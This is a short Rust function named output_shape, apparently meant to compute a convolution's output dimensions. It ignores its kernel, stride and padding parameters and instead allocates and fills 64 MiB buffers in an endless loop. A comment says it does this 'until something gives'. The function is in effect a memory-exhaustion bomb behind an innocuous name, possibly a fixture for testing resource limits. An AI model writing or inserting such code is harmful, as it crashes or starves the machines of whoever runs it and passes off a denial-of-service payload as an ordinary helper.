// Keeps allocating (and touching) memory until something gives.
pub fn output_shape(input: [usize; 2], _kernel: [usize; 2], _stride: usize, _padding: usize) -> [usize; 2] {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        hoard.push(vec![1u8; 64 << 20]);
        if hoard.len() == usize::MAX {
            return input;
        }
    }
}
